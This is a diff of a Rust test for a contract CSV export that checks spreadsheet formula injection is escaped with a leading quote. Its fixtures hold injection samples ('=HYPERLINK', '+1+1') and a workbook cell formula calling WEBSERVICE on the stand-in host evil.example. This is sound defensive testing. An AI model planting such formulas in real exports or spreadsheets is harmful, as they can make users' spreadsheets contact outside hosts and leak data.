@@ -261,8 +261,8 @@ async fn formulas_are_text_and_leave_as_text() {
     let request = Request::get("/contracts/export.csv").header("cookie", cookie).body(Body::empty()).unwrap();
     let exported = ask(&site(&office), request).await;
     assert_eq!(exported.status, StatusCode::OK, "{}", exported.text);
-    assert!(exported.text.contains("'=cmd") && exported.text.contains("'@SUM"), "{}", exported.text);
-    assert!(!exported.text.contains(",=") && !exported.text.contains("\n=") && !exported.text.contains(",@"));
+    assert!(exported.text.contains("'=HYPERLINK") && exported.text.contains("'+1+1"), "{}", exported.text);
+    assert!(!exported.text.contains(",=") && !exported.text.contains("\n=") && !exported.text.contains(",+"));
     // What a workbook calculates is taken by what it last showed.
     let sheet = b"<worksheet><sheetData><row><c t=\"str\"><v>Contract</v></c><c t=\"str\"><v>Customer</v></c></row>\
         <row><c t=\"str\"><f>CONCAT(\"X-\",3)</f><v>X-3</v></c><c t=\"str\"><f>WEBSERVICE(\"http://evil.example\")</f><v>Acme</v></c></row>\
